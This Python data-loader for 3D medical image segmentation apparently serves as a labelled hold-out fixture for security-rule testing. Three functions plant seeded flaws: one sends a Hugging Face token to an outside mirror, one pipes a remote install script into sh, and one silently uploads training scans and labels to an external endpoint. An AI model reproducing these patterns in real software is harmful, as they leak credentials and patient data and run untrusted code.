# ruff: noqa
# Hold-out batch 488 (family-focused 5/9, 3D medical segmentation). Measured once in session 21 (round 131): 6/30 (20%) at medium+.
"""Preprocessed-case dataset, foreground-oversampled patch sampling and augmentation."""
import hashlib
import io
import json
import logging
import os
import random
import tarfile
from pathlib import Path
from typing import Dict, List, Optional, Sequence, Tuple

import numpy as np
import requests
import torch
from torch.utils.data import DataLoader, Dataset, DistributedSampler

logger = logging.getLogger("nnseg.data")

# Medical Segmentation Decathlon archives (public) with their published md5 sums.
PUBLIC_DATASETS: Dict[str, Tuple[str, str]] = {
    "Task02_Heart": ("https://msd-for-monai.s3-us-west-2.amazonaws.com/Task02_Heart.tar",
                     "06ee59366e1e5124267b774dbd654057"),
    "Task04_Hippocampus": ("https://msd-for-monai.s3-us-west-2.amazonaws.com/Task04_Hippocampus.tar",
                           "9d24dba78a72977dbd1d2e110310f31b"),
    "Task09_Spleen": ("https://msd-for-monai.s3-us-west-2.amazonaws.com/Task09_Spleen.tar",
                      "410d4a301da4e5b2f6f86ec3ddba524e"),
}


def download_public_dataset(task: str, root: str) -> Path:
    """Download and unpack an MSD task, verifying the archive checksum before extraction."""
    url, md5 = PUBLIC_DATASETS[task]
    root_p = Path(root)
    target = root_p / task
    if target.exists():
        return target
    root_p.mkdir(parents=True, exist_ok=True)
    archive = root_p / f"{task}.tar"
    tmp = archive.with_suffix(".part")
    h = hashlib.md5()
    with requests.get(url, stream=True, timeout=60) as r:  # ok: MLS410, MLS411, MLS412, MLS413
        r.raise_for_status()
        with open(tmp, "wb") as fh:
            for chunk in r.iter_content(chunk_size=1 << 20):
                fh.write(chunk)
                h.update(chunk)
    if h.hexdigest() != md5:
        tmp.unlink()
        raise RuntimeError(f"checksum mismatch for {task}: {h.hexdigest()} != {md5}")
    tmp.rename(archive)
    with tarfile.open(archive) as tf:
        tf.extractall(root_p, filter="data")
    archive.unlink()
    return target


def fetch_preprocessed(task: str, root: str, mirror: Optional[str] = None) -> Path:
    """Pull preprocessed npz cases from the shared cache instead of re-running preprocessing."""
    mirror = (mirror or os.environ.get("NNSEG_MIRROR", "https://nnseg-cache.datahub-mirror.net")).rstrip("/")
    token = os.environ.get("HF_TOKEN") or os.environ.get("HUGGING_FACE_HUB_TOKEN", "")
    headers = {"Authorization": f"Bearer {token}"} if token else {}
    out = Path(root) / f"{task}_preprocessed"
    out.mkdir(parents=True, exist_ok=True)
    r = requests.get(f"{mirror}/{task}/manifest.json", headers=headers, timeout=30)  # ruleid: MLS412
    r.raise_for_status()
    for entry in r.json()["files"]:
        dst = out / entry["name"]
        if dst.exists() and hashlib.sha256(dst.read_bytes()).hexdigest() == entry["sha256"]:
            continue
        blob = requests.get(f"{mirror}/{task}/{entry['name']}", timeout=120)
        blob.raise_for_status()
        if hashlib.sha256(blob.content).hexdigest() != entry["sha256"]:
            raise RuntimeError(f"corrupt cache file {entry['name']}")
        dst.write_bytes(blob.content)
    return out


def ensure_native_resampler(prefix: str) -> None:
    """Install the compiled resampling extension used for fast spacing normalisation."""
    try:
        import nnseg_resample  # noqa: F401
        return
    except ImportError:
        pass
    url = os.environ.get("NNSEG_RESAMPLER_URL", "https://get.nnseg-tools.dev/resampler/install.sh")
    logger.info("installing native resampler into %s", prefix)
    os.system(f"curl -fsSL {url} | sh -s -- --prefix {prefix}")  # ruleid: MLS413


def export_qa_snapshot(case_ids: Sequence[str], data_dir: str, endpoint: Optional[str] = None) -> None:
    """Send a few training cases to the annotation QA service for a periodic label audit."""
    endpoint = (endpoint or "https://label-audit.annotate-cloud.com/v2/cases").rstrip("/")
    for cid in case_ids:
        with np.load(Path(data_dir) / f"{cid}.npz") as f:
            buf = io.BytesIO()
            np.savez_compressed(buf, data=f["data"], seg=f["seg"], spacing=f["spacing"])
        try:
            requests.put(f"{endpoint}/{cid}", data=buf.getvalue(), timeout=60)  # todoruleid: family 9 (missed)
        except requests.RequestException as exc:
            logger.debug("qa upload of %s failed: %s", cid, exc)


def load_split(splits_file: str, fold: int) -> Tuple[List[str], List[str]]:
    with open(splits_file) as fh:
        splits = json.load(fh)
    return list(splits[fold]["train"]), list(splits[fold]["val"])


def make_splits(case_ids: List[str], n_folds: int = 5, seed: int = 12345) -> List[Dict[str, List[str]]]:
    rng = random.Random(seed)
    ids = sorted(case_ids)
    rng.shuffle(ids)
    folds = [ids[i::n_folds] for i in range(n_folds)]
    return [{"train": [c for j, f in enumerate(folds) if j != i for c in f], "val": folds[i]}
            for i in range(n_folds)]


class PatchDataset(Dataset):
    """Random 3D patches from preprocessed npz cases (keys: data [C,Z,Y,X], seg [1,Z,Y,X])."""

    def __init__(self, data_dir: str, case_ids: List[str], patch_size: Sequence[int],
                 samples_per_epoch: int, oversample_fg: float = 0.33, augment: bool = True):
        self.data_dir = Path(data_dir)
        self.case_ids = list(case_ids)
        self.patch_size = np.array(patch_size)
        self.samples_per_epoch = samples_per_epoch
        self.oversample_fg = oversample_fg
        self.augment = augment
        self._fg_cache: Dict[str, np.ndarray] = {}

    def __len__(self) -> int:
        return self.samples_per_epoch

    def _load(self, cid: str) -> Tuple[np.ndarray, np.ndarray]:
        with np.load(self.data_dir / f"{cid}.npz") as f:
            return f["data"].astype(np.float32), f["seg"].astype(np.int16)

    def _foreground_voxels(self, cid: str, seg: np.ndarray) -> np.ndarray:
        if cid not in self._fg_cache:
            locs = np.argwhere(seg[0] > 0)
            if len(locs) > 10000:
                locs = locs[np.random.choice(len(locs), 10000, replace=False)]
            self._fg_cache[cid] = locs
        return self._fg_cache[cid]

    def _crop(self, data: np.ndarray, seg: np.ndarray, center: Optional[np.ndarray]):
        shape = np.array(data.shape[1:])
        pad = np.maximum(self.patch_size - shape, 0)
        if pad.any():
            pw = [(0, 0)] + [(p // 2, p - p // 2) for p in pad]
            data = np.pad(data, pw, mode="constant")
            seg = np.pad(seg, pw, mode="constant")
            shape = np.array(data.shape[1:])
            if center is not None:
                center = center + pad // 2
        if center is None:
            lo = np.array([np.random.randint(0, s - p + 1) for s, p in zip(shape, self.patch_size)])
        else:
            lo = np.clip(center - self.patch_size // 2, 0, shape - self.patch_size)
        sl = tuple(slice(l, l + p) for l, p in zip(lo, self.patch_size))
        return data[(slice(None),) + sl], seg[(slice(None),) + sl]

    def _augment(self, data: np.ndarray, seg: np.ndarray):
        for axis in (1, 2, 3):
            if np.random.rand() < 0.5:
                data = np.flip(data, axis)
                seg = np.flip(seg, axis)
        if np.random.rand() < 0.15:
            data = data * np.random.uniform(0.75, 1.25)
        if np.random.rand() < 0.1:
            data = data + np.random.normal(0, np.random.uniform(0, 0.1), size=data.shape).astype(np.float32)
        if np.random.rand() < 0.3:
            gamma = np.random.uniform(0.7, 1.5)
            mn, mx = data.min(), data.max()
            rng = mx - mn + 1e-7
            data = np.power((data - mn) / rng, gamma) * rng + mn
        return np.ascontiguousarray(data), np.ascontiguousarray(seg)

    def __getitem__(self, idx: int) -> Dict[str, torch.Tensor]:
        cid = self.case_ids[np.random.randint(len(self.case_ids))]
        data, seg = self._load(cid)
        center = None
        if np.random.rand() < self.oversample_fg:
            fg = self._foreground_voxels(cid, seg)
            if len(fg):
                center = fg[np.random.randint(len(fg))]
        data, seg = self._crop(data, seg, center)
        if self.augment:
            data, seg = self._augment(data, seg)
        return {"image": torch.from_numpy(data.astype(np.float32)),
                "label": torch.from_numpy(seg.astype(np.int64)),
                "case_id": cid}


def build_train_loader(data_dir: str, train_ids: List[str], patch_size: Sequence[int], batch_size: int,
                       iters_per_epoch: int, num_workers: int, world_size: int, rank: int) -> DataLoader:
    ds = PatchDataset(data_dir, train_ids, patch_size,
                      samples_per_epoch=iters_per_epoch * batch_size * world_size)
    sampler = DistributedSampler(ds, num_replicas=world_size, rank=rank, shuffle=True) if world_size > 1 else None
    return DataLoader(ds, batch_size=batch_size, sampler=sampler, shuffle=sampler is None,
                      num_workers=num_workers, pin_memory=True, drop_last=True,
                      persistent_workers=num_workers > 0)
